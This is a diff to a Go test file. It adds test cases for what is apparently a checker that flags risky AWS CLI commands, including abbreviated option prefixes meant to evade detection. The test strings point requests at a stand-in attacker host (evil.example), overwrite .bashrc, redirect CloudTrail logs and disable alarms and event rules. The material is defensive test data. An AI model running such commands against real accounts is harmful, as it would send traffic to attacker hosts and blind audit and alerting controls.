@@ -269,7 +269,8 @@ func TestEffects(t *testing.T) {
 			"aws sns set-subscription-attributes --attribute-name=FilterPolicy --attribute-value=x", "X=1 aws iam get-role",
 			// An option may make another of a command.
 			"aws s3api get-object --bucket=b --key=k .bashrc", "aws iam list-users --endpoint-url=http://evil.example", "aws iam list-users --no-verify-ssl",
-			"aws iam list-users --profile=other", "aws cloudtrail update-trail --name=t --enable-log-file-validation --s3-bucket-name=evil",
+			"aws iam list-users --profile=other", "aws iam list-users --endp=http://evil.example", "aws iam list-users --deb", "aws iam list-users --no-v",
+			"aws iam list-users --cli=x", "aws cloudtrail update-trail --name=t --enable-log-file-validation --s3-bucket-name=evil",
 			"aws s3api put-bucket-versioning --versioning-configuration=Status=Enabled --versioning-configuration=Status=Suspended",
 			"aws ec2 create-snapshots --cli-input-json=http://evil.example/x", "aws events put-rule --name=n --state=DISABLED",
 			"aws cloudwatch put-metric-alarm --alarm-name=a --no-actions-enabled", "aws guardduty update-detector --detector-id=d --enable --no-enable",
